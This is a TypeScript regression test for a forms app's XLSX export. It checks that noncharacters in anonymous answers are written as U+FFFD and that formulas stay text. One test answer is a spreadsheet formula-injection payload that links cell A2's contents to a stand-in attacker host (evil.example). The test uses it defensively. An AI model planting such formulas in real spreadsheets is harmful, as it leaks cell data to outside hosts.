// Fourth review, 2026-11-28: exceljs drops the C0 controls XML cannot hold but wrote U+FFFE and
// U+FFFF as they are, so one anonymous answer holding either made the owner's XLSX export a
// malformed sheet: Excel calls the file corrupt, exceljs refuses it ("disallowed character") and
// LibreOffice showed the rows before that answer and none after. Such characters are now written
// as U+FFFD; formulas and links stay text.
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { client } from "../helpers/api.ts";
import { DB_KINDS } from "../helpers/db.ts";
import { startTestServer, type TestServer } from "../helpers/server.ts";

describe.each(DB_KINDS)("an XLSX export stays a well-formed sheet (%s)", (kind) => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startTestServer({ db: kind });
    const api = client(s.url, s.apiKey);
    const made = await api("POST", "/api/forms", {
      body: {
        title: "Notes",
        slug: "notes",
        humanness: false,
        fields: [
          { id: "note", type: "text", label: "Note" },
          { id: "pick", type: "checkbox", label: "Pick", options: ["A", "B"] },
        ],
      },
    });
    expect(made.status).toBe(201);
    for (const note of [
      "first",
      "bad \uFFFF\uFFFE\u0001\u000b end",
      '=HYPERLINK("https://evil.example/?"&A2,"open")',
      "last",
    ]) {
      const res = await api("POST", "/api/forms/notes/submit", {
        key: null,
        body: { fields: { note, pick: ["A"] } },
      });
      expect(res.status).toBe(201);
    }
  });
  afterAll(() => s?.close());

  it("reads back every row, the noncharacters replaced and a formula as text", async () => {
    const res = await fetch(`${s.url}/api/forms/notes/responses/export?format=xlsx`, {
      headers: { authorization: `Bearer ${s.apiKey}` },
    });
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await res.arrayBuffer());
    const notes: unknown[] = [];
    book.worksheets[0]!.eachRow((row, n) => {
      if (n > 1) notes.push(row.getCell(3).value);
    });
    expect(notes.toSorted()).toEqual(
      [
        "first",
        "bad \uFFFD\uFFFD end",
        '=HYPERLINK("https://evil.example/?"&A2,"open")',
        "last",
      ].toSorted(),
    );
  });
});
